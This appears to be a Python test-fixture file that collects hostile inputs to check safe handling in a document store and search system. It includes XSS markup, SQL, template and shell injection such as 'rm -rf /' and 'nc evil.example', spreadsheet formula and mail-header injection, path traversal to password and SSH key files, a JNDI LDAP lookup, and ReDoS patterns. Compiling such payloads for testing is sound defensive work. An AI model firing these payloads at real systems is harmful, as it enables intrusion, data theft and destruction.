"""Texts that mean harm, by what they are after. Each goes through reading, store and index onto pages, feeds, files and
mails: tests/test_hostile_texts.py."""

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='",
    "<a href=javascript:alert(1)>点此</a>", "<a href='jav&#x09;ascript:alert(1)'>点此</a>", "<a href=' &#1; javascript:alert(1)'>点此</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//evil.example></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>", "<form action=//evil.example><input name=p></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<div style='background:url(javascript:alert(1))'>", "<math><mtext><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>//'>", "<![CDATA[><script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>", "<xss onpointerenter=alert(1) style=display:block>x", "<table background=//evil.example>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "[点此](javascript:alert(1))", "![x](x onerror=alert(1))", "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
    "<scr\0ipt>alert(1)</scr\0ipt>", "<img src=x o\u200bnerror=alert(1)>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% import os %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ me.user.password }}", "{{ ''.__class__.__mro__ }}", "%(password)s", "{0.__class__}",
    "%s%s%s%n", "$(id)", "`id`", "; rm -rf /", "| nc evil.example 1", "\\N{BULLET}",
)  # fmt: skip
SQL = (
    "' OR 1=1 --", "'; DROP TABLE documents; --", "\" OR \"\"=\"", "1); DELETE FROM alerts; --", "' UNION SELECT secret FROM tokens --",
    "%' AND 1=0 UNION SELECT 1 --", "\\'; --", "/**/OR/**/1=1", "0x27204f5220313d31", "admin'--", "_%", "' || (SELECT 1) || '",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点此\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u200b＝1", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\"=1+1", "'=1+1", "=\u200b1+1", "\t\r\n＝1", "\x0b=1", "\x1c=1", "\u2066=1", "\u00ad=1",
)  # fmt: skip
HEADERS = (
    "a\r\nBcc: evil@example.com", "a\nX-Injected: 1", "a\rX-Injected: 1", "a%0d%0aX-Injected:%201", "a\r\n\r\n<html>", "a\u2028X-Injected: 1", "a\u0085X-Injected: 1",
    "a\x0bX-Injected: 1", "a\x0cX-Injected: 1", "=?utf-8?q?a=0d=0aX-Injected:_1?=", "a\r\n.\r\nMAIL FROM:<evil@example.com>", "a\r\nContent-Type: text/html",
    "\"; filename=\"evil.exe", "a\r\n Set-Cookie: fengsui_demo=x", "嘊嘍X-Injected: 1",
)  # fmt: skip
UNICODE = (
    "a\0b", "\ud800", "\udfff\ud800", "\u202e喜报\u202c", "\u2066\u2067甲\u2069", "\u200b\u200c\u200d\u2060\ufeff", "e" + "\u0301" * 500, "Z" + "\u0335\u0336\u0337" * 100,
    "\U000e0041\U000e0042", "\ufffe\uffff", "\x08\x1b[31m红\x1b[0m", "\x7f\x80\x9f", "\u2028\u2029", "\ufdfa" * 20, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 10,
    "ᄀ" * 50, "\u115f\u3164\uffa0", "а\u0440ple.com", "ⓔⓥⓘⓛ", "\u0600\u0601", "\u061c", "İıſK", "ß" * 30, "\u1d2c\u1d2d", "ﷺ", "𠮷野家", "\U0010ffff", "\ue000\uf8ff",
    "\u034f" * 40, "\u17b4\u17b5",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc",
    "a/../../b.pdf", "~/.ssh/id_rsa", "file:///etc/passwd", "\\\\evil.example\\share", "CON.pdf", "a.pdf\0.exe", ".", "..", " ", "a" * 400 + ".pdf", "-rf.pdf", "$(id).pdf",
    "\u202efdp.exe", "a\r\nX-Injected: 1.pdf", "\".pdf", "合同；rm.pdf", "|id.pdf", "\ud800.pdf", "._.DS_Store", "a.pdf.", "a.pdf ",
)  # fmt: skip
TEXTS = {
    "markup": MARKUP, "template": TEMPLATES, "sql": SQL, "formula": FORMULAS, "header": HEADERS, "unicode": UNICODE, "path": PATHS,
}  # fmt: skip
QUERIES = (
    "' OR 1=1 --", "标题:' OR 1=1 --", "来源:\"'; DROP TABLE documents; --\"", "标题:" + "*a" * 60, "标题:/(a+)+$/", "(a+)+$", "{\"match_all\":{}}", "_exists_:x", "_id:*",
    "标题:[a TO z]", "a~5", "a^10", "\\", "\\\\\\", "\"", "“", "(", ")", "{", "提及:{", "提及:{编号:*}", "提及:{提及:{a:b}}", "not " * 60 + "a", "级别>=999999999999999999999",
    "级别:0x10", "级别:1e3", "分数>1e999", "分数:nan", "时间:0000-00-00", "时间:9999-12-31", "时间:2026-02-30", "时间:近99999999天", "时间:近0天", "时间:近-1天", "and", "or or or",
    "来源:${jndi:ldap://evil.example/a}", "标题:{{7*7}}", "\u202e起火", "起\0火", "\ud800", "：：：", "级别：：3", "*", "**", "*:*", "网址:*evil*", "网址:javascript*",
    "id:(" + " or ".join("abcdefgh") + ")", "a" * 2001,
)  # fmt: skip
PATTERNS = (
    "(a+)+$", "(a|a)*$", "(a*)*b", "(.*)(.*)(.*)(.*)x", "([a-z]+)*\\d", "(\\w+\\s?)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "a{1,1000}{1,1000}", "(?=a)b", "(?<=a)b", "(a)\\1", "(",
    "[", "*", "a{99999}", "(?P<x>a)(?P<x>b)", "\\8", "(" * 2000, "[\ud800]", "(?i)(?:a?){200}a{200}",
)  # fmt: skip
"""Regular expressions that people write: RE2 reads them in linear time, or refuses them."""
